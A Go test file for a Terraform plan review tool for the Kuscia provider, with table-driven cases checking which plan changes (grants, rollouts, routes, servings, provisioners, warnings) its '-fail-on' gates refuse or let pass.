	"a Rollout may be disabled":          {failOn: "release", changes: []attributes{change("kuscia_rollout.d", updated, with(planned, "disabled", false), planned, unknown(attributes{"disabled": true}))}},
	"a Rollout is disabled in secret":    {failOn: "release", changes: []attributes{change("kuscia_rollout.d", updated, with(planned, "disabled", false), with(planned, "disabled", true), secretly(attributes{"disabled": true}))}},
	"a Rollout is removed":               {failOn: "release", changes: []attributes{change("kuscia_rollout.d", deleted, planned, nil)}},
	"a Rollout is replaced":              {failOn: "release", changes: []attributes{change("kuscia_rollout.d", replaced, planned, planned)}},
	"a leftover of a Rollout is removed": {failOn: "release", changes: []attributes{change("kuscia_rollout.d", deleted, planned, nil, attributes{"deposed": "12345678"})}},
	"traffic is routed to the new pods": {
		failOn:  "release",
		changes: []attributes{change("kuscia_traffic_routing.d", updated, weighted, with(weighted, "strategy", attributes{"weight": 100}))},
		says:    []string{"This plan changes the routing of requests of `alice/d` (to the new version: all requests, before no requests).", "| `alice/d` | `0` → `100` | to the new version: all requests, before no requests |"},
		silent:  []string{"Everything else"},
	},
	"a new routing of traffic":        {failOn: "release", changes: []attributes{change("kuscia_traffic_routing.d", created, nil, weighted)}},
	"a routing of traffic is removed": {failOn: "release", changes: []attributes{change("kuscia_traffic_routing.d", deleted, weighted, nil)}},

	// The provider has another name.
	"the provider under another name": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data_grant.b", created, nil, toBob, attributes{"provider_name": "registry.terraform.io/corp/kuscia2"})},
		says:    []string{"Resources of the provider `registry.terraform.io/corp/kuscia2` are reviewed as those of kuscia."},
	},
	"an action of the provider under another name": {
		failOn: "release",
		fields: attributes{"action_invocations": []any{attributes{
			"address": "action.kuscia_rollout_approve.d", "type": "kuscia_rollout_approve", "provider_name": "registry.terraform.io/corp/kuscia2", "config_values": attributes{"namespace": "alice", "name": "d", "step": 1},
		}}},
	},
}

// TestRefusals: a gate refuses harm also where a value is sensitive or unknown, where an object
// is removed, forgotten, left over or of another provider block, and where no object changes.
func TestRefusals(t *testing.T) {
	t.Parallel()
	for name, test := range refusals {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stdout, _ := program(t, 2, planOf(t, test.fields, test.changes...), "-fail-on", test.failOn)
			protocol.Says(t, "the review", stdout, test.says...)
			for _, text := range test.silent {
				if strings.Contains(stdout, text) {
					t.Errorf("%q is in\n%s", text, stdout)
				}
			}
		})
	}
}

// TestPasses: what only looks like harm passes.
func TestPasses(t *testing.T) {
	t.Parallel()
	gradual := []attributes{
		change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("b"))),
		change("kuscia_rollout.d", same, planned, planned),
	}
	for name, test := range map[string]struct {
		failOn  string
		fields  attributes
		changes []attributes
		says    []string
	}{
		"granted data is created in another Kuscia": {
			failOn:  "grant",
			fields:  at("http://k:1", "http://k:2", map[string]string{"kuscia_domain_data.d": "kuscia.b", "kuscia_domain_data_grant.b": "kuscia.a"}),
			changes: []attributes{change("kuscia_domain_data.d", created, nil, with(scores, "relative_uri", "b.csv")), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		},
		"a data source whose id the server makes is created while data is in another one": {
			failOn: "grant,code,unknown",
			fields: configured(nil, attributes{"address": "kuscia_domain_data_source.t", "mode": "managed", "type": "kuscia_domain_data_source", "name": "t", "provider_config_key": "kuscia", "expressions": attributes{"domain_id": attributes{"constant_value": "alice"}}}),
			changes: []attributes{
				change("kuscia_domain_data_source.t", created, nil, without(localfs("/home/kuscia/hr"), "datasource_id"), attributes{"after_unknown": attributes{"datasource_id": true}}),
				change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
			},
		},
		"a provider configuration without a program": {
			failOn: "provisioner",
			fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{
				"kubernetes": attributes{"constant_value": attributes{"host": "https://k", "exec": nil}}, "token": attributes{"references": []any{"var.token"}},
			}}}}},
			says: []string{"Nothing changes."},
		},
		"a provider configuration that may run a program": {
			failOn: "provisioner",
			fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{"kubernetes": attributes{"references": []any{"var.k"}}}}}}},
			says:   []string{"- Whether `kuscia` runs a program to log in: its settings refer to values."},
		},
		"fields of a grant that may be removed once something is sent": {
			failOn:  "grant,code,unknown",
			changes: []attributes{change("kuscia_domain_data_grant.b", updated, toBob, with(toBob, "allow_removal_of", []any{"limit.initiator"}))},
			says:    []string{"This plan changes only the state of the grant of `scores` of `alice` to `bob`."},
		},
		"no field of a grant that may be removed": {
			failOn:  "grant,code,unknown",
			changes: []attributes{change("kuscia_domain_data_grant.b", updated, toBob, with(with(toBob, "description", attributes{"a": "b"}), "allow_removal_of", []any{}))},
		},
		"the description of a grant that may be removed": {
			failOn:  "grant,code,unknown",
			changes: []attributes{change("kuscia_domain_data_grant.b", updated, with(toBob, "author", "a"), with(with(toBob, "author", "b"), "allow_removal_of", []any{"description"}))},
			says:    []string{"may remove fields of the grant of `scores` of `alice` to `bob` (`description`)"},
		},
		"fields that a new grant may not have": {
			failOn: "code", changes: []attributes{change("kuscia_app_image.a", created, nil, with(appImage("1"), "allow_removal_of", []any{"deployTemplates.networkPolicy"}))},
		},
		"a grant with another description": {
			failOn:  "grant,code,unknown",
			changes: []attributes{change("kuscia_domain_data_grant.b", updated, toBob, with(toBob, "description", attributes{"a": "b"}))},
			says:    []string{"This plan changes the grant of `scores` of `alice` to `bob`.", "| `alice` | nothing |"},
		},
		"a serving that ran after a failed apply": {
			failOn: "drift", fields: attributes{"resource_drift": []any{change("kuscia_serving.glm", updated, with(glm(party("a")), "create_time", ""), with(with(glm(party("a")), "create_time", "2026-01-01T00:00:00Z"), "endpoints", []any{"a"}))}},
			says: []string{"Nothing changes."},
		},
		"an object that moves in the state while it is refreshed": {
			failOn: "drift", fields: attributes{"resource_drift": []any{change("kuscia_domain_data.s", same, scores, scores, attributes{"previous_address": "kuscia_domain_data.old"})}},
			says: []string{"Nothing changes."},
		},
		"a sensitive number of replicas that grows": {
			failOn:  "interrupted",
			changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a", attributes{"replicas": 2})), secretly(attributes{"parties": true}))},
		},
		"sensitive parties that stay": {
			failOn:  "interrupted,restart",
			changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate)), glm(party("a", recreate), attributes{"wait_for_rollout": true}), secretly(attributes{"parties": true}))},
		},
		"nothing ran that replicas could stop": {
			failOn:  "interrupted",
			changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a", attributes{"replicas": 0})), deployment(without(party("a"), "replicas")), unknown(attributes{"parties": attributes{"alice": attributes{"replicas": true}}}))},
		},
		"one of two pods is always left": {
			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "1"), attributes{"replicas": 2})), glm(party("b", strategy("0", "1"), attributes{"replicas": 2})))},
		},
		"the default strategy leaves the only pod": {
			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("25%", "25%"))), glm(party("b", strategy("25%", "25%"))))},
		},
		"an edge deployment that is scaled or described": {
			failOn: "interrupted", changes: []attributes{
				change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 1, "instance_revision": 1}, attributes{"name": "psi", "replicas": 2, "instance_revision": 1}),
				change("kuscia_edge_deployment.f", updated, attributes{"name": "f", "description": "a"}, attributes{"name": "f", "description": "b"}),
			},
		},
		"the plan says that no instance is new": {
			failOn: "interrupted", changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 1, "instance_revision": 3, "affinity": "{}"}, attributes{"name": "psi", "replicas": 1, "instance_revision": 3, "affinity": "{ }"})},
		},
		"nothing runs that could stop": {
			failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate, attributes{"replicas": 0})), glm(party("b", recreate, attributes{"replicas": 0})))},
		},
		"the plan says that no pod is new": {
			failOn: "restart,interrupted", changes: []attributes{change("kuscia_serving.glm", updated,
				glm(party("a", recreate, attributes{"pod_revision": 2}), attributes{"serving_input_config": "a"}), glm(party("a", recreate, attributes{"pod_revision": 2}), attributes{"serving_input_config": "b"}))},
		},
		"another spelling of a text for SecretFlow-Serving": {
			failOn:  "grant,code,restart",
			changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), attributes{"serving_input_config": " " + features("http://a")["serving_input_config"].(string)}))},
		},
		"another spelling of a text of another application": {
			failOn:  "grant,code,restart",
			changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"x":1,"n":[1,2]}`}), glm(party("a"), attributes{"serving_input_config": `{"n": [1, 2], "x": 1}`}))},
		},
		"another model of SecretFlow-Serving": {
			failOn: "grant", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), attributes{"serving_input_config": strings.Replace(features("http://a")["serving_input_config"].(string), "m-1", "m-2", 1)}))},
		},
		"another comment of a column": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", []any{attributes{"name": "id", "comment": "a"}}), with(scores, "columns", []any{attributes{"name": "id", "comment": "b"}}))},
		},
		"what only the server sets is known after apply": {
			failOn: "unknown", changes: []attributes{change("kuscia_domain_data.s", created, nil, without(scores, "domaindata_id"), unknown(attributes{"domaindata_id": true, "id": true, "status": true, "author": true}))},
		},
		"a gradual update": {
			failOn: "interrupted", changes: gradual, fields: configured(map[string]string{"kuscia_deployment.d": "kuscia.a", "kuscia_rollout.d": "kuscia.a"}),
			says: []string{"restarts step by step, because of `parties.alice.app_image`; steps: `1`"},
		},
		"an update beside a Rollout of another Kuscia": {
			failOn: "interrupted", changes: gradual, fields: configured(map[string]string{"kuscia_deployment.d": "kuscia.a", "kuscia_rollout.d": "kuscia.b"}),
			says: []string{"restarts without an interruption, because of `parties.alice.app_image`"},
		},
		"a provisioner of what stays": {
			failOn: "provisioner", fields: configured(nil, local("kuscia_domain.c")),
			changes: []attributes{change("kuscia_domain.c", updated, attributes{"domain_id": "carol", "cert": "x"}, attributes{"domain_id": "carol", "cert": "y"})},
		},
		"a delete of another provider whose block stays": {
			failOn: "provisioner", fields: configured(map[string]string{"terraform_data.x": "terraform"}),
			changes: []attributes{change("terraform_data.x", deleted, attributes{}, nil, attributes{"address": "terraform_data.x[1]"})},
		},
		"a delete of this provider without a block": {
			failOn: "provisioner", fields: configured(nil), changes: []attributes{change("kuscia_domain.c", deleted, attributes{"domain_id": "carol"}, nil)},
			says: []string{"- Whether the removed block of 1 resource that is deleted runs a program (a provisioner): a plan has no removed blocks."},
		},
		"another limit of time of a Rollout": {
			failOn: "release", changes: []attributes{change("kuscia_rollout.d", updated, planned, with(planned, "timeouts", attributes{"update": "5m"}))},
		},
		"another name of a data source": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_data_source.s", updated, attributes{"datasource_id": "oss", "name": "a"}, attributes{"datasource_id": "oss", "name": "b"})},
		},
		"the path of a gateway": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", attributes{"host": "bob.example", "ports": []any{attributes{"name": "http", "port": 443, "protocol": "HTTP", "is_tls": true, "path_prefix": "/b"}}}))},
			says: []string{"→ `bob.example`, port `443` (`HTTP` with TLS) below `/b` |", "Let `alice` reach `bob` at"},
		},
		"a route through a tunnel": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(route, "transit", attributes{"transit_method": "REVERSE-TUNNEL"}))},
			says: []string{"| `bob.example`, port `443` (`HTTP` with TLS) → through a reverse tunnel |"},
		},
		"a new domain with its own master": {
			failOn: "grant", changes: []attributes{change("kuscia_domain.a", created, nil, attributes{"domain_id": "alice", "master_domain_id": "alice"}, unknown(attributes{"auth_center": true}))},
			says: []string{"This plan adds the domain `alice`."},
		},
		"what others may name is forgotten or created": {
			failOn: "grant,code", changes: []attributes{
				change("kuscia_app_image.a", forgotten, appImage("1"), nil), change("kuscia_domain.c", forgotten, attributes{"domain_id": "carol"}, nil), change("kuscia_config.k", forgotten, attributes{"key": "k"}, nil),
				change("kuscia_app_image.b", created, nil, with(appImage("1"), "name", "b")), change("kuscia_domain_data_source.f", created, nil, localfs("/hr")), change("kuscia_domain.d", created, nil, attributes{"domain_id": "dave", "cert": "x"}),
				change("kuscia_domain.old", deleted, attributes{"domain_id": "erin"}, nil, attributes{"deposed": "00000001"}),
			},
			says: []string{"- Whether grants, data, servings and requests elsewhere use the domain `dave`, the app image `b` and the data source `files` of `alice` already: they get what is created here.\n"},
		},
		"another port of a host": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", with(gateway(true), "ports", []any{attributes{"name": "http", "port": 8443, "protocol": "HTTP", "is_tls": true, "path_prefix": "/a"}})))},
		},
		"another certificate of a client": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", replaced, with(route, "mtls_config", attributes{"tls_ca": "x", "source_client_cert": "c"}), with(route, "mtls_config", attributes{"tls_ca": "x", "source_client_cert": "d"}))},
		},
		"the CA of a new route": {
			failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", created, nil, with(route, "mtls_config", attributes{"tls_ca": "x"}))},
		},
		"a new host": {failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", created, nil, toGateway)}},
		"a grant that is forgotten and imported": {
			failOn: "forget", fields: configured(map[string]string{"kuscia_domain_data_grant.b": "kuscia.a"}, attributes{"address": "kuscia_domain_data_grant.old", "mode": "managed", "type": "kuscia_domain_data_grant", "name": "old", "provider_config_key": "kuscia.a"}),
			changes: []attributes{change("kuscia_domain_data_grant.old", forgotten, toBob, nil), change("kuscia_domain_data_grant.b", same, toBob, toBob, attributes{"importing": attributes{"id": "x"}})},
			says:    []string{"moved from `kuscia_domain_data_grant.old`; imported; nothing"},
		},
		"checks that are not evaluated": {
			failOn: "check",
			fields: attributes{"checks": []any{
				attributes{"address": attributes{"to_display": "check.a"}, "status": "unknown"}, attributes{"address": attributes{"to_display": "check.b"}, "status": "unknown"}, attributes{"address": attributes{"to_display": "check.c"}, "status": "pass"},
			}},
			says: []string{"- 2 checks that this plan does not evaluate."},
		},
		"a plan that cannot be applied": {
			failOn: "check", fields: attributes{"applyable": false}, changes: []attributes{change("kuscia_domain.c", created, nil, attributes{"domain_id": "carol"})},
			says: []string{"> Terraform marks this plan as one that cannot be applied."},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stdout, _ := program(t, 0, planOf(t, test.fields, test.changes...), "-fail-on", test.failOn)
			protocol.Says(t, "the review", stdout, test.says...)
		})
	}
}

// TestUnknownVerbs: a change that this program does not know is an error, of whatever object.
func TestUnknownVerbs(t *testing.T) {
	t.Parallel()
	foreign := attributes{"provider_name": "registry.terraform.io/hashicorp/aws"}
	for name, test := range map[string]struct {
		fields  attributes
		changes []attributes
		want    string
	}{
		"destroy":           {changes: []attributes{change("kuscia_domain.c", []string{"destroy"}, attributes{}, nil)}, want: `the plan has the action "destroy" for kuscia_domain.c, which this program does not know`},
		"recreate":          {changes: []attributes{change("aws_instance.x", []string{"recreate"}, attributes{}, nil, foreign)}, want: `"recreate"`},
		"one of two":        {changes: []attributes{change("kuscia_domain.c", []string{"no-op", "delete"}, attributes{}, nil)}, want: `"no-op delete"`},
		"none":              {changes: []attributes{change("kuscia_domain.c", []string{}, attributes{}, nil)}, want: `""`},
		"no change":         {changes: []attributes{{"address": "kuscia_domain.c", "mode": "managed", "type": "kuscia_domain"}}, want: `""`},
		"values":            {changes: []attributes{change("kuscia_domain.c", updated, nil, nil, attributes{"after": "x"})}, want: "values of kuscia_domain.c that are no object"},
		"drift":             {fields: attributes{"resource_drift": []any{change("kuscia_domain.c", []string{"x"}, attributes{}, nil)}}, want: `"x"`},
		"a deferred change": {fields: attributes{"deferred_changes": []any{attributes{"reason": "r", "resource_change": change("kuscia_domain.c", []string{"x"}, attributes{}, nil)}}}, want: `"x"`},
		"an output":         {fields: attributes{"output_changes": attributes{"o": attributes{"actions": []string{"x"}}}}, want: `"x" for output.o`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if _, stderr := program(t, 1, planOf(t, test.fields, test.changes...)); !strings.Contains(stderr, test.want) || strings.Count(stderr, "\n") != 1 {
				t.Errorf("%s, want %s", stderr, test.want)
			}
		})
	}
	// Ephemeral resources change nothing.
	program(t, 0, planOf(t, nil, change("kuscia_certificate.c", []string{"open"}, nil, nil)), "-fail-on", "change")
}

// TestWarnings: warnings are in the review and have their categories, by the log beside the plan.
func TestWarnings(t *testing.T) {
	t.Parallel()
	log := filepath.Join(t.TempDir(), "plan.log")
	testfile.Write(t, log, `{"@level":"info","type":"version"}
{"@level":"warn","type":"diagnostic","diagnostic":{"severity":"warning","summary":"App image does not exist","detail":"Kuscia has no app image \"a\".","address":"kuscia_serving.glm"}}
{"@level":"warn","type":"diagnostic","diagnostic":{"severity":"warning","summary":"Running pods do not get this change","detail":"`+strings.Repeat("d", 300)+`","address":"kuscia_app_image.a"}}
{"@level":"info","type":"planned_change","change":{"resource":{"addr":"kuscia_serving.glm"},"action":"create"}}
{"@level":"info","type":"change_summary","changes":{"add":1,"operation":"plan"}}
`)
	file := filepath.Join(t.TempDir(), "plan.json")
	testfile.Write(t, file, planOf(t, nil, change("kuscia_serving.glm", created, nil, glm(party("a")))))
	stdout, stderr := program(t, 2, "", "-fail-on", "reference", "-log", log, file)
	protocol.Says(t, "the review", stdout, "- Refers to what does not exist: 1 reference\n", "- The provider warns: 2 warnings\n", "### Warnings",
		"| `kuscia_serving.glm` | `App image does not exist` | `Kuscia has no app image \"a\".` |", "<pre><code>"+strings.Repeat("d", 300)+"</code></pre>")
	if stderr != "This plan is refused:\n  reference, warning: kuscia_serving.glm: a warning: \"App image does not exist\"\n" {
		t.Error(stderr)
	}
	program(t, 2, testfile.Read(t, log), "-fail-on", "warning", "-log", "-", file)
	program(t, 2, "", "-fail-on", "warning", "-allow", "kuscia_serving.glm", "-log", log, file)
	for want, args := range map[string][]string{
		"-fail-on warning and reference need the log":            {"-fail-on", "reference", file},
		"the plan and the log cannot both be the standard input": {"-log", "-"},
		"this is not the log of plan -json":                      {"-log", file, file},
		"no such file":                                           {"-log", file + "x", file},
		"the log is that of another plan":                        {"-fail-on", "warning", "-log", log},
	} {
		if _, stderr := program(t, 1, `{"format_version":"1.2"}`, args...); !strings.Contains(stderr, want) {
			t.Errorf("%v: %s, want %s", args, stderr, want)
		}
	}
	stdout, _ = program(t, 0, "", file)
	protocol.Says(t, "the review", stdout, "- Warnings of the provider: there is no log of plan -json")
}

// TestFailOnAddsUp: each -fail-on adds to the others, and a gate without any says so.
func TestFailOnAddsUp(t *testing.T) {
	t.Parallel()
	plan := planOf(t, nil, change("kuscia_serving.glm", deleted, glm(party("a")), nil))
	program(t, 2, plan, "-fail-on", "interrupted,destroy", "-fail-on", "grant")
	program(t, 2, plan, "-fail-on", "interrupted", "-fail-on", "")
	for _, empty := range []string{"", " ,"} {
		stdout, stderr := program(t, 0, plan, "-fail-on", empty)
		if !strings.Contains(stdout, "> No gate: -fail-on is empty, so every plan passes.") || stderr != "kuscia-review: no gate: -fail-on is empty\n" {
			t.Errorf("-fail-on %q: %s%s", empty, stdout, stderr)
		}
	}
	if stdout, stderr := program(t, 0, plan); strings.Contains(stdout, "No gate") || stderr != "" {
		t.Errorf("without -fail-on: %s%s", stdout, stderr)
	}
}
